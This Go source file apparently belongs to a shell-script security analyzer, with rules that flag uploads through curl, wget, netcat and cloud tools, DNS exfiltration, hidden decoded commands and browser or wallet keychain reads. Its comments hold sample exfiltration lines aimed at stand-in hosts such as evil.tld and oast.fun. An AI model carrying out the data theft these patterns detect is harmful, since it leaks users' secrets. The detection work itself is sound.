func HasCodeFlag(c *shell.Command) bool {
	if p, _, ok := CommandProgram(c); ok {
		return p.Kind == ProgramInline
	}
	for _, w := range c.Params() {
		switch w.Value {
		case "-c", "-e", "-E", "-r", "--eval", "-p", "--print":
			return true
		}
	}
	return false
}

// SuspiciousDownload reports whether any command of the site downloads
// from a raw IP, paste site, tunnel, file drop or similar host.
func SuspiciousDownload(site *analyzer.ShellSite) bool {
	for _, c := range site.Script.Commands {
		if IsDownloader(c) && shHostIsSuspicious(c) {
			return true
		}
	}
	return false
}

// SendsData reports whether c transmits data to a remote host, and how.
func SendsData(c *shell.Command) (string, bool) {
	if how, ok := xargsSends(c); ok {
		return how, true
	}
	switch c.Name {
	case "curl", "curlie", "xh", "http", "https":
		for i, w := range c.Params() {
			v := w.Value
			switch {
			case v == "-d" || v == "-F" || v == "-T" || v == "--form" || v == "--upload-file" || strings.HasPrefix(v, "--data") || v == "--json" || v == "--form-string":
				return "uploads with curl " + v, true
			case strings.HasPrefix(v, "-d") && len(v) > 2 && !strings.HasPrefix(v, "--"), strings.HasPrefix(v, "-F") && len(v) > 2:
				return "uploads with curl " + v[:2], true
			case (v == "-X" || v == "--request") && i+2 < len(c.Argv):
				m := strings.ToUpper(c.Argv[i+2].Value)
				if m == "POST" || m == "PUT" || m == "PATCH" {
					return "sends a " + m + " request", true
				}
			case strings.Contains(v, "=") && w.Subst && intel.URLRx.MatchString(v):
				return "puts command output in the URL", true
			}
		}
		if len(c.Redirs) > 0 || c.PipePrev >= 0 {
			for _, w := range c.Params() {
				if w.Value == "@-" || strings.HasSuffix(w.Value, "=@-") {
					return "uploads its input", true
				}
			}
		}
	case "wget", "wget2":
		for _, w := range c.Params() {
			if strings.HasPrefix(w.Value, "--post-file") || strings.HasPrefix(w.Value, "--post-data") || strings.HasPrefix(w.Value, "--body-file") || strings.HasPrefix(w.Value, "--body-data") {
				return "uploads with wget " + strings.SplitN(w.Value, "=", 2)[0], true
			}
		}
	case "nc", "ncat", "netcat", "telnet", "socat", "openssl":
		if c.Name == "openssl" && c.Arg(1) != "s_client" {
			return "", false
		}
		if c.PipePrev >= 0 {
			return "pipes data to " + c.Name, true
		}
		for _, r := range c.Redirs {
			if r.Op == "<" {
				return "sends a file to " + c.Name, true
			}
		}
	case "scp", "sftp", "rsync":
		if len(c.Argv) > 2 && strings.Contains(c.Argv[len(c.Argv)-1].Value, ":") {
			return "copies to a remote host with " + c.Name, true
		}
	case "ftp", "tftp", "smbclient", "rclone", "aws", "gsutil", "az":
		for _, w := range c.Params() {
			switch w.Value {
			case "put", "cp", "copy", "sync", "-T", "upload":
				return "uploads with " + c.Name, true
			}
		}
	case "invoke-webrequest", "iwr", "invoke-restmethod", "irm":
		if HasArgFold(c, "-method") && (HasArgFold(c, "post") || HasArgFold(c, "put")) || HasArgFold(c, "-infile") || HasArgFold(c, "-body") {
			return "uploads with " + c.Name, true
		}
	}
	if DNSExfil(c) {
		return "encodes data in a DNS lookup", true
	}
	return "", false
}

// xargsSends reports a downloader that xargs runs on the lines piped into
// it, where those lines become data sent: the replacement string of -I
// in the query of a URL or in a data option's value
// (… | xargs -I{} curl "https://h/k?v={}"), or appended after a data
// option that ends the command (… | xargs curl https://h/k -d).
func xargsSends(c *shell.Command) (string, bool) {
	if c.PipePrev < 0 || !IsDownloader(c) || len(c.Args) <= len(c.Argv) || c.Args[0].Value != "xargs" {
		return "", false
	}
	repl := ""
	for i, w := range c.Args[1 : len(c.Args)-len(c.Argv)] {
		switch v := w.Value; {
		case v == "-I" || v == "-i" || v == "--replace":
			if i+2 < len(c.Args) {
				repl = c.Args[i+2].Value
			}
			if v == "-i" || v == "--replace" {
				repl = "{}"
			}
		case strings.HasPrefix(v, "-I") && len(v) > 2:
			repl = v[2:]
		case strings.HasPrefix(v, "--replace="):
			repl = strings.TrimPrefix(v, "--replace=")
		}
	}
	ps := c.Params()
	if repl == "" {
		if len(ps) > 0 && dataOptions[ps[len(ps)-1].Value] {
			return "sends each line piped to xargs as " + ps[len(ps)-1].Value + " data", true
		}
		return "", false
	}
	for i, w := range ps {
		v := w.Value
		if !strings.Contains(v, repl) {
			continue
		}
		if i > 0 && dataOptions[ps[i-1].Value] {
			return "sends each line piped to xargs as " + ps[i-1].Value + " data", true
		}
		if u := intel.URLRx.FindString(v); u != "" {
			if q := strings.IndexAny(v, "?#"); q >= 0 && strings.Contains(v[q:], repl) {
				return "puts each line piped to xargs in the URL", true
			}
		}
	}
	return "", false
}

// dnsValueOpts are the options of dig, host, nslookup and ping whose
// value is not the name looked up (a port, a count, a type, an address
// to bind).
var dnsValueOpts = map[string]bool{"-p": true, "-t": true, "-c": true, "-i": true, "-W": true, "-w": true, "-s": true,
	"-I": true, "-b": true, "-k": true, "-y": true, "-R": true, "-m": true, "-N": true}

// dnsDataRx matches, in a name looked up, a substitution that puts local
// data into it: an encoder, a file or archive read, the machine's or
// user's identity, the environment, or a variable named for a secret.
var dnsDataRx = match.MustRx(`(?:\$\(|\x60|\|)\s*(?:sudo\s+)?(?:base64|base32|basenc|xxd|od|hexdump|gzip|bzip2|xz|openssl|whoami|hostname|id|uname|printenv|env|history|cat|tar|ls|head\s+-c|cut\s+-c)\b|\$\{?[A-Za-z_]*(?:TOKEN|SECRET|KEY|PASS|PASSWORD|CRED|token|secret|key|pass|password|cred)[A-Za-z_]*\}?`)

// dnsSuffixRx matches a literal domain of two labels or more at the end
// of a name, after the last expansion.
var dnsSuffixRx = match.MustRx(`^\.(?:[A-Za-z0-9-]+\.)*[A-Za-z0-9-]+\.[A-Za-z][A-Za-z0-9-]*\.?["']?$`)

// dnsFixedSuffix reports a name whose expansions come before a fixed
// domain (${data}.x.oast.fun, $(hostname).evil.tld): data put into
// labels of a zone whose server sees every lookup.
func dnsFixedSuffix(v string) bool {
	last := -1
	for i := 0; i < len(v); i++ {
		switch v[i] {
		case ')', '}', '`':
			last = i
		case '$':
			j := i + 1
			for j < len(v) && (v[j] == '_' || v[j] >= 'a' && v[j] <= 'z' || v[j] >= 'A' && v[j] <= 'Z' || v[j] >= '0' && v[j] <= '9') {
				j++
			}
			if j > i+1 {
				last = j - 1
			}
		}
	}
	return last >= 0 && dnsSuffixRx.MatchString(v[last+1:])
}

// DNSExfil reports a DNS lookup (dig, nslookup, host, ping …) of a name
// that carries local data: one built from command output that encodes,
// reads or identifies something of this machine
// (dig "$(whoami | base64).x.oast.fun", nslookup `hostname`.evil.tld), or
// a variable whose source is not shown, in labels before a fixed domain. A
// name that is the item looked up ($domain from a list, _dmarc.$domain), a
// name derived from another lookup's answer (the MX host dig printed), a
// DNS blocklist query of a reversed address, and a port or count taken
// from a config file carry nothing of the user's.
func DNSExfil(c *shell.Command) bool {
	switch c.Name {
	case "dig", "nslookup", "host", "ping", "drill", "resolvectl":
	default:
		return false
	}
	ps := c.Params()
	for i, w := range ps {
		v := w.Value
		if strings.HasPrefix(v, "-") || strings.HasPrefix(v, "@") || strings.HasPrefix(v, "+") ||
			i > 0 && dnsValueOpts[ps[i-1].Value] {
			continue
		}
		// the substitution as written decides; a variable whose source is
		// not shown (chunk=${fp:0:60}) may hold anything
		shown := strings.Contains(v, "$(") || strings.Contains(v, "`")
		if !dnsFixedSuffix(v) {
			continue // $domain, _dmarc.$domain: the name is the item looked up, not data sent to a zone
		}
		if dnsDataRx.MatchString(v) && (w.Subst || !w.Const) || w.Subst && !shown {
			return true
		}
	}
	return false
}

// shLowReadonly are commands that only read local state: a dynamic-context
// line made of them is fine.
var shLowReadonly = map[string]bool{"git": true, "date": true, "ls": true, "pwd": true, "echo": true, "printf": true,
	"cat": true, "head": true, "tail": true, "wc": true, "find": true, "grep": true, "rg": true, "tree": true,
	"whoami": true, "uname": true, "hostname": true, "which": true, "type": true, "file": true, "stat": true,
	"du": true, "df": true, "sort": true, "uniq": true, "cut": true, "jq": true, "yq": true, "sed": true, "awk": true,
	"basename": true, "dirname": true, "realpath": true, "readlink": true, "test": true, "[": true, "true": true,
	"false": true, "diff": true, "cmp": true, "column": true,
	"tr": true, "xargs": false, "nproc": true, "sw_vers": true, "id": true, "ps": true, "uptime": true, "less": true,
	"fd": true, "md5sum": true, "sha256sum": true, "shasum": true, "test-path": true, "get-childitem": true}

var shGitWriting = map[string]bool{"push": true, "commit": true, "reset": true, "clean": true, "checkout": true,
	"rebase": true, "config": true, "remote": true, "fetch": true, "pull": true, "clone": true, "merge": true,
	"am": true, "apply": true, "rm": true, "mv": true, "restore": true, "switch": true, "tag": true, "stash": true,
	"gc": true, "submodule": true, "worktree": true, "update-ref": true, "filter-branch": true, "send-email": true}

// IsReadOnly reports whether a command only reads local state.
func IsReadOnly(c *shell.Command) bool {
	if c.Name == "" {
		return true
	}
	if !shLowReadonly[c.Name] {
		return false
	}
	if c.Name == "git" {
		for _, w := range c.Params() {
			if strings.HasPrefix(w.Value, "-") {
				continue
			}
			return !shGitWriting[w.Value]
		}
		return true
	}
	if (c.Name == "sed" && HasShortFlag(c, 'i', "--in-place")) || (c.Name == "find" && (HasArg(c, "-delete", "-exec", "-execdir", "-ok"))) {
		return false
	}
	for _, r := range c.Redirs {
		switch r.Op {
		case ">", ">>", "&>", "&>>", ">|":
			if r.Target.Value != "/dev/null" && !strings.HasPrefix(r.Target.Value, "&") {
				return false
			}
		}
	}
	return true
}

// OutputFile returns the file a downloader writes to, if any.
func OutputFile(c *shell.Command) (string, bool) {
	for i := 1; i < len(c.Argv); i++ {
		v := c.Argv[i].Value
		next := ""
		if i+1 < len(c.Argv) {
			next = c.Argv[i+1].Value
		}
		switch {
		case v == "-o" || v == "--output" || v == "-O" && (c.Name == "wget" || c.Name == "wget2") || v == "--output-document" || strings.EqualFold(v, "-outfile"):
			if next != "" && !discardTarget(next) {
				return next, true
			}
			return "", false
		case c.Name == "curl" && len(v) > 2 && v[0] == '-' && v[1] != '-' && v[len(v)-1] == 'o' && !strings.Contains(v[1:len(v)-1], "o"):
			// combined short flags ending in -o: curl -fsSLo file URL
			if next != "" && !discardTarget(next) {
				return next, true
			}
			return "", false
		case strings.HasPrefix(v, "--output-document=") || strings.HasPrefix(v, "--output="):
			f := v[strings.IndexByte(v, '=')+1:]
			return f, !discardTarget(f)
		case c.Name == "curl" && (v == "-O" || v == "--remote-name" || len(v) > 1 && v[0] == '-' && v[1] != '-' && strings.Contains(v, "O")):
			for _, u := range URLs(c) {
				return shUrlBase(u), true
			}
		}
	}
	if c.Name == "certutil" && HasArgFold(c, "-urlcache") || c.Name == "bitsadmin" && HasArgFold(c, "/transfer") {
		// certutil -urlcache -split -f URL [file], bitsadmin /transfer
		// job URL file: the operand after the URL names the file written
		// (certutil keeps the URL's last segment without one)
		ps := c.Params()
		for i, w := range ps {
			if intel.URLRx.MatchString(w.Value) {
				if i+1 < len(ps) && !strings.HasPrefix(ps[i+1].Value, "-") {
					return ps[i+1].Value, true
				}
				if c.Name == "certutil" {
					return shUrlBase(w.Value), true
				}
			}
		}
	}
	if c.Name == "wget" || c.Name == "wget2" {
		if HasShortFlag(c, 'q', "") && HasArg(c, "-O-", "-qO-", "-qO", "-O") {
			return "", false
		}
		for _, u := range URLs(c) {
			return shUrlBase(u), true
		}
	}
	for _, r := range c.Redirs {
		if (r.Op == ">" || r.Op == ">>" || r.Op == ">|") && !discardTarget(r.Target.Value) {
			return r.Target.Value, true
		}
	}
	return "", false
}

// discardTarget reports an output that keeps nothing: /dev/null and the
// standard streams.
func discardTarget(f string) bool {
	switch f {
	case "-", "/dev/null", "/dev/stdout", "/dev/stderr", "&1", "&2", "NUL", "$null":
		return true
	}
	return false
}

func shUrlBase(u string) string {
	u = strings.SplitN(strings.SplitN(u, "?", 2)[0], "#", 2)[0]
	if i := strings.LastIndexByte(u, '/'); i >= 0 && !strings.HasSuffix(u[:i], ":/") {
		return u[i+1:]
	}
	return ""
}

// SameFile compares two path words loosely (./x, $TMPDIR/x and x match).
func SameFile(a, b string) bool {
	if a == "" || b == "" {
		return false
	}
	trim := func(s string) string {
		s = strings.Trim(s, `"'`)
		if i := strings.LastIndexAny(s, "/\\"); i >= 0 {
			s = s[i+1:]
		}
		return s
	}
	return trim(a) == trim(b) && trim(a) != ""
}

// HiddenLayer reports whether c was reached through text piped into a
// shell (decoded base64 or hex, reversed, printed from escapes) or an eval
// of such text.
func HiddenLayer(s *shell.Script, c *shell.Command) bool {
	hidden := func(x *shell.Command) bool {
		if x.Via == shell.ViaStdin {
			return true
		}
		if x.Via == shell.ViaEval || x.Via == shell.ViaDashC {
			if par := shParentOf(s, x); par != nil {
				for _, w := range par.Argv {
					if w.Subst && w.Const {
						return true // the text came out of a decoded substitution
					}
				}
			}
		}
		return false
	}
	if hidden(c) {
		return true
	}
	found := false
	Ancestors(s, c, func(a *shell.Command) bool {
		found = hidden(a)
		return !found
	})
	return found
}

// shScanAhead bounds how far rules look for a later step (the run of a
// downloaded file, the upload of a dumped one): real chains are a few
// commands long, and a bound keeps crafted scripts linear.
const shScanAhead = 500

// Ahead returns the commands after index i, at most shScanAhead.
func Ahead(s *shell.Script, i int) []*shell.Command {
	if i < 0 {
		i = -1
	}
	end := min(len(s.Commands), i+1+shScanAhead)
	if i+1 >= end {
		return nil
	}
	return s.Commands[i+1 : end]
}

// RunsFile reports whether c executes the file f (./f, bash f, python f).
func RunsFile(c *shell.Command, f string) bool {
	for _, t := range RunTargets(c) {
		if SameFile(t, f) {
			return true
		}
	}
	return false
}

// RunTargets returns the words of c that name a file c executes: the
// program itself, an interpreter's script (the first argument that is not
// an option; a program given with -c/-e/-m makes every file an argument,
// which is data), a script an interpreter reads on stdin (bash < f), and
// what open, start, nohup, source and . are given.
func RunTargets(c *shell.Command) []string {
	if len(c.Argv) == 0 {
		return nil
	}
	var out []string
	// a document's path on a line of its own (/home/u/docs/file.txt in
	// a listing) is not a program run; ./notes.txt run explicitly is
	if p := c.Argv[0].Value; c.Name != "chmod" && (!viewedDataRx.MatchString(p) || strings.HasPrefix(p, "./")) {
		out = append(out, p)
	}
	if IsInterpreter(c.Name) && c.Name != "source" && c.Name != "." {
		if p, words, ok := CommandProgram(c); ok {
			switch p.Kind {
			case ProgramFile:
				return append(out, p.Text(words))
			case ProgramStdin:
			default:
				return out // inline code or a module: every file is an argument
			}
		} else {
			for _, w := range c.Params() {
				v := w.Value
				if v == "-c" || v == "-e" || v == "-m" || v == "-E" || v == "-r" || v == "--eval" {
					return out
				}
				if strings.HasPrefix(v, "-") && v != "-" {
					continue
				}
				return append(out, v)
			}
		}
		if StdinIsCode(c) {
			for _, r := range c.Redirs {
				if r.Op == "<" && r.Fd == "" {
					out = append(out, r.Target.Value)
				}
			}
		}
		return out
	}
	if c.Name == "open" || c.Name == "start" || c.Name == "nohup" || c.Name == "source" || c.Name == "." {
		for _, w := range c.Params() {
			// open output.jpg shows the picture in a viewer: a document
			// opened by its own application is not run
			if (c.Name == "open" || c.Name == "start") && viewedDataRx.MatchString(strings.Trim(w.Value, `"'`)) {
				continue
			}
			out = append(out, w.Value)
		}
	}
	return out
}

// viewedDataRx matches a document or media file name: what open or start
// hands to a viewer, not something that runs.
var viewedDataRx = match.MustRx(`(?i)\.(?:jpe?g|png|gif|webp|svg|bmp|tiff?|heic|avif|ico|pdf|txt|md|csv|tsv|json|ya?ml|xml|log|mp4|mov|webm|mkv|mp3|wav|m4a|ogg|flac|xlsx?|docx?|pptx?|odt|ods|odp|rtf|epub)$`)

// browserKeychainRx matches keychain items that unlock browser and wallet
// stores.
var browserKeychainRx = match.MustRx(`(?i)safe storage|chrome|chromium|brave|edge|opera|vivaldi|arc|firefox|wallet|metamask|exodus|1password|bitwarden`)

// OwnKeychainItem reports a `security find-generic-password` or
// `find-internet-password` lookup of one named keychain item (-s, -l) that
// is not a browser or wallet key: a tool reading its own token.
func OwnKeychainItem(c *shell.Command) bool {
	if c.Arg(1) != "find-generic-password" && c.Arg(1) != "find-internet-password" {
		return false
	}
	for i, w := range c.Argv {
		if (w.Value == "-s" || w.Value == "-l") && i+1 < len(c.Argv) {
			return !browserKeychainRx.MatchString(c.Argv[i+1].Value)
		}
	}
	return false
}
